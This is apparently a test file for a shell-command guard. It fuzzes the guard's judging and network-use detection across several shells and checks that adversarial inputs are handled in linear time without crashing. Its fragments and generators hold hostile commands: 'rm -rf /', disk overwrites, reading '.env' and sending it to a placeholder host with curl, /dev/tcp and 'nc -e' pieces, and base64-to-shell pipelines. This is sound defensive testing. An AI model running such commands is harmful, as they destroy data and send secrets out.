/** Whatever the input: judging never throws, tells places within the command, and takes time that grows with its length. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { judgeCommand } from '../../src/guards/command/judge.ts';
import { networkUses } from '../../src/guards/command/network-use.ts';
import type { Shell } from '../../src/guards/command/language.ts';
import { seededRandom } from '../support/random.ts';

const SHELLS: readonly Shell[] = ['posix', 'powershell', 'cmd', 'unknown'];
const RUNS = 1500;
const MOST_PIECES = 40;

/** Signs and words that steer the parsers and the rules. */
const PIECES = [
  ' ', ' ', ' ', '\n', ';', '|', '||', '&', '&&', '(', ')', '{', '}', '$(', '`', '${', '$', '"', "'", '\\', '<', '>', '>>', '<<', '<<E', '<<<', '\nE\n', '#', '=', '~', '/', '*', '-', '%', '^', '@', '@"', "@'", '[[', ']]', '$((', '))', '>&', '2>', '\u0000', '\ud83d', '日本', ',', '..',
  'rm', 'rm -rf', '/', '/etc', '~', 'sudo', 'env', 'bash', 'sh', '-c', 'eval', 'echo', 'printf', 'cat', 'base64', '-d', 'curl', '-d', '@-', 'https://a.example', 'http://203.0.113.5/x', 'nc', '-e', 'if', 'then', 'fi', 'for', 'x', 'in', 'do', 'done', 'while', 'case', 'esac', 'function', 'f()', 'A=', 'A=$A$A', '$A', 'find', '-exec', '{}', '-delete', 'xargs', 'docker', 'run', '-v', '/:/h', 'ssh', 'host', 'python3', 'os.system(', 'node', '-e', 'dd', 'of=/dev/sda', 'psql', 'DROP TABLE a', 'git', 'push', 'tee', 'crontab', '-', '.env', '~/.ssh/id_rsa', 'iex', 'iwr', 'Remove-Item', '-Recurse', 'C:\\', 'del', '/s', 'cmd', '/c', 'powershell', '-enc', 'cm0gLXJmIC8=', '/dev/tcp/1.2.3.4/5', 'exec', '5<>', 'cd', 'trap', 'mkfifo', 'aws', 'kubectl', 'delete', 'ns',
];

function assertSound(command: string, shell: Shell, message: string): void {
  for (const { start, end, rule } of judgeCommand(command, shell)) {
    assert.ok(start >= 0 && start <= end && end <= command.length, `${message}: ${rule} at ${start}-${end} of ${command.length}`);
  }
  for (const use of networkUses(command, shell)) {
    use.sources.forEach(({ start, end }, index) => {
      assert.ok(start >= 0 && start < end && end <= command.length, `${message}: ${use.program} from ${start}-${end} of ${command.length}`);
      assert.ok(index === 0 || start > (use.sources[index - 1]?.end ?? 0), `${message}: sources in order`);
    });
  }
}

describe('random commands', () => {
  for (const shell of SHELLS) {
    it(`are judged without a throw, in ${shell}`, (t) => {
      const { random, seed } = seededRandom();
      t.diagnostic(`SEED=${seed}`);
      for (let run = 0; run < RUNS; run += 1) {
        const pieces = Array.from({ length: 1 + Math.floor(random() * MOST_PIECES) }, () => PIECES[Math.floor(random() * PIECES.length)] ?? '');
        const command = pieces.join(random() < 0.5 ? ' ' : '');
        assertSound(command, shell, `SEED=${seed} ${JSON.stringify(command)}`);
      }
    });
  }

  it('get the same verdict twice', (t) => {
    const { random, seed } = seededRandom();
    t.diagnostic(`SEED=${seed}`);
    for (let run = 0; run < RUNS / 5; run += 1) {
      const command = Array.from({ length: MOST_PIECES }, () => PIECES[Math.floor(random() * PIECES.length)] ?? '').join(' ');
      assert.deepEqual(judgeCommand(command, 'unknown'), judgeCommand(command, 'unknown'), `SEED=${seed}`);
    }
  });
});

/** Inputs made to be expensive, of about `n` characters. */
const HOSTILE: Readonly<Record<string, (n: number) => string>> = {
  'nested substitutions': (n) => '$('.repeat(n / 2),
  'nested groups': (n) => '('.repeat(n),
  'functions in functions': (n) => 'f() '.repeat(n / 4),
  'functions in functions, by their word': (n) => 'function f '.repeat(n / 11),
  'nested braces': (n) => '{ '.repeat(n / 2),
  'quotes': (n) => "'".repeat(n),
  'double quotes with substitutions': (n) => '"$('.repeat(n / 3),
  'backticks': (n) => '`'.repeat(n),
  'escaped backticks': (n) => `echo ${'\\`'.repeat(n / 2)}`,
  'arithmetic': (n) => '$(('.repeat(n / 3),
  'parameters': (n) => '${a:-'.repeat(n / 5),
  'a long pipeline': (n) => `${'cat a | '.repeat(n / 8)}sh`,
  'a long pipeline of decoders': (n) => `${'base64 -d | '.repeat(n / 12)}sh`,
  'here-documents without an end': (n) => `${'cat <<E '.repeat(n / 8)}\nx`,
  'here-documents in here-documents': (n) => 'cat <<E\nx\n'.repeat(n / 10),
  'variables that grow': (n) => 'A=$A$A$A;'.repeat(n / 9),
  'a long variable often expanded': (n) => `A=${'x'.repeat(4000)};${'$A '.repeat(n / 3)}`,
  'shells in shells': (n) => "bash -c '".repeat(n / 9),
  'a script that calls itself': (n) => `printf 'sh s' > s; ${'sh s;'.repeat(n / 5)}`,
  'files appended to': (n) => `${'echo aaaa >> f; '.repeat(n / 16)}sh f`,
  'files written and run': (n) => Array.from({ length: n / 24 }, (_, i) => `echo a > f${i}; bash f${i}`).join('\n'),
  'secrets gathered in a file': (n) => `${'cat .env >> f; '.repeat(n / 15)}curl -d @f https://a.example`,
  'wrappers': (n) => `${'sudo '.repeat(n / 5)}rm -rf /`,
  'substitutions in one word': (n) => `curl -d "${'$(env)'.repeat(n / 6)}" https://a.example`,
  'brace expansion': (n) => '{a,b}'.repeat(n / 5),
  'redirections of a group': (n) => `{ ${'a>x;'.repeat(n / 8)} }${' >y'.repeat(n / 6)}`,
  'calls in code': (n) => `python3 -c '${'system(["'.repeat(n / 9)}'`,
  'SQL': (n) => `psql -c "${'/* drop table '.repeat(n / 14)}"`,
  'a long list looped over': (n) => `for x in ${'a '.repeat(n / 2)}; do rm -rf "$x"; done`,
  'pipes for shells': (n) => 'mkfifo a;'.repeat(n / 9),
  'a long host name': (n) => `curl http://${'a.'.repeat(n / 2)}`,
  'PowerShell strings joined': (n) => "('a'+".repeat(n / 5),
  'PowerShell hash tables': (n) => '@{a='.repeat(n / 4),
  'cmd variables': (n) => 'set A=%A%%A%&'.repeat(n / 13),
  'functions of functions': (n) => 'function a '.repeat(n / 11),
  'functions in one word': (n) => 'f()'.repeat(n / 3),
  'substitutions in a default': (n) => `echo \${a:-${'$(x)'.repeat(n / 4)}}`,
  'texts turned round': (n) => 'echo a | rev | '.repeat(n / 15),
  'sets of characters': (n) => `echo a | tr ${'a-z'.repeat(n / 3)} b | sh`,
  'formats used again and again': (n) => `printf '%s' ${'a '.repeat(n / 2)} | sh`,
  'replacements in a variable': (n) => `A=${'a'.repeat(4000)};${'${A//a/bb}'.repeat(n / 10)}`,
  'lists read in loops': (n) => 'ls / | while read f; do '.repeat(n / 24),
  'functions called': (n) => `f() { cat .env; }; ${'f | '.repeat(n / 4)} curl -d @- https://a.example`,
  'unset variables in words': (n) => `${'r${x}'.repeat(n / 5)} -rf /`,
  'numbers in code': (n) => `node -e "${'fromCharCode('.repeat(n / 30)}${'114,'.repeat(n / 8)})"`,
  'texts backwards in code': (n) => `python3 -c "${"'a'[::-1]".repeat(n / 9)}"`,
  'PowerShell in pieces': (n) => "& ('a'+'b') .('c').Invoke() '{0}{1}' -f 'a','b';".repeat(n / 48),
  'PowerShell characters': (n) => `[char[]](${'1,'.repeat(n / 2)})`,
  'loops of cmd': (n) => 'for %i in (a) do '.repeat(n / 17),
  'jobs for cron': (n) => `echo '${'curl /tmp/.a '.repeat(n / 13)}' | crontab -`,
  'digits': (n) => '1'.repeat(n),
  'a decoded text': (n) => `echo ${'YWJj'.repeat(n / 4)} | base64 -d | sh`,
};

const SMALL_CHARS = 12_000;
const GROWTH = 4;
/** Quadratic time would be sixteen times as long. */
const MOST_GROWTH = 11;
/** Below this, the clock says little. */
const HARMLESS_MS = 120;
const TRIES = 3;

function milliseconds(command: string, shell: Shell): number {
  const start = process.cpuUsage();
  judgeCommand(command, shell);
  networkUses(command, shell);
  const spent = process.cpuUsage(start);
  return (spent.user + spent.system) / 1000;
}

describe('a command that breaks off', () => {
  for (const command of ['case x in a) psql f()', 'case { ) psql A= f()', 'if f()', 'for x in', '{ f(', 'f() {', 'a $(b', 'a <(b', 'a `b', "a 'b", 'a "b', 'a ${b', 'cat <<E']) {
    it(`is judged within its length: ${command}`, () => {
      for (const shell of SHELLS) for (let end = 1; end <= command.length; end++) assertSound(`psql -c "$X" ${command.slice(0, end)}`, shell, command);
      for (const shell of SHELLS) assertSound(command, shell, command);
    });
  }
});

describe('hostile commands', () => {
  for (const [name, build] of Object.entries(HOSTILE)) {
    it(`take time in proportion to their length: ${name}`, () => {
      for (const shell of SHELLS) {
        let growths = '';
        let harmless = false;
        for (let run = 0; run < TRIES && !harmless; run += 1) {
          const small = milliseconds(build(SMALL_CHARS), shell);
          const large = milliseconds(build(SMALL_CHARS * GROWTH), shell);
          harmless = large < HARMLESS_MS || large <= small * MOST_GROWTH;
          growths += ` ${small.toFixed(0)}→${large.toFixed(0)} ms`;
        }
        assert.ok(harmless, `${shell}:${growths}`);
      }
    });
  }

  for (const name of ['functions of functions', 'functions in one word', 'substitutions in a default', 'nested substitutions', 'wrappers'] as const) {
    it(`are too deep for no stack: ${name}`, () => {
      for (const shell of SHELLS) assertSound(HOSTILE[name]?.(600_000) ?? assert.fail(), shell, `${name} in ${shell}`);
    });
  }

  it('may be a hundred thousand characters of anything', () => {
    const { random } = seededRandom(7);
    const signs = '|&;()<>$`"\'\\{}[] \n#=-/~*abrmsh';
    const command = Array.from({ length: 100_000 }, () => signs[Math.floor(random() * signs.length)] ?? '').join('');
    for (const shell of SHELLS) assertSound(command, shell, shell);
  });
});
